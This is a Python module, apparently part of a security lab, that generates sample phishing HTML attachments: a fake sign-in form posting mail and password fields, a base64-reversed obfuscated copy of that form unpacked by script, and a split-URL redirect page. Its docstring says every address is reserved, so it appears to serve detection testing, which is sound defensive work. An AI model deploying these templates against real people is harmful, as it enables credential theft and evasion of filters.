"""HTML files as attackers attach them: harmless, every address is reserved."""

from __future__ import annotations

import base64

from firstsight.lab.inject.plot import Plot


def html_page(plot: Plot, domain: str) -> bytes:
    """One of three shapes: a form, a form that a script unpacks, a page that leads on at once."""
    url = plot.url(domain)
    shape = plot.rng.choice((_form, _unpacked, _leading_on))
    return f"<!doctype html><html><head><meta charset='utf-8'></head><body>{shape(url)}</body></html>\n".encode()


def _form(url: str) -> str:
    return (
        f"<h2>Sign in to continue</h2><form method='post' action='{url}'><label>Mail <input name='mail'></label>"
        "<label>Password <input type='password' name='pw'></label><input type='submit' value='Continue'></form>"
    )


def _unpacked(url: str) -> str:
    packed = base64.b64encode(_form(url)[::-1].encode()).decode()
    script = f"document.getElementById('d').innerHTML=atob('{packed}').split('').reverse().join('')"
    return f"<div id='d'></div><script>{script}</script>"


def _leading_on(url: str) -> str:
    half = len(url) // 2
    return f"<p>One moment</p><script>var a='{url[:half]}',b='{url[half:]}';window.location.href=a+b</script>"
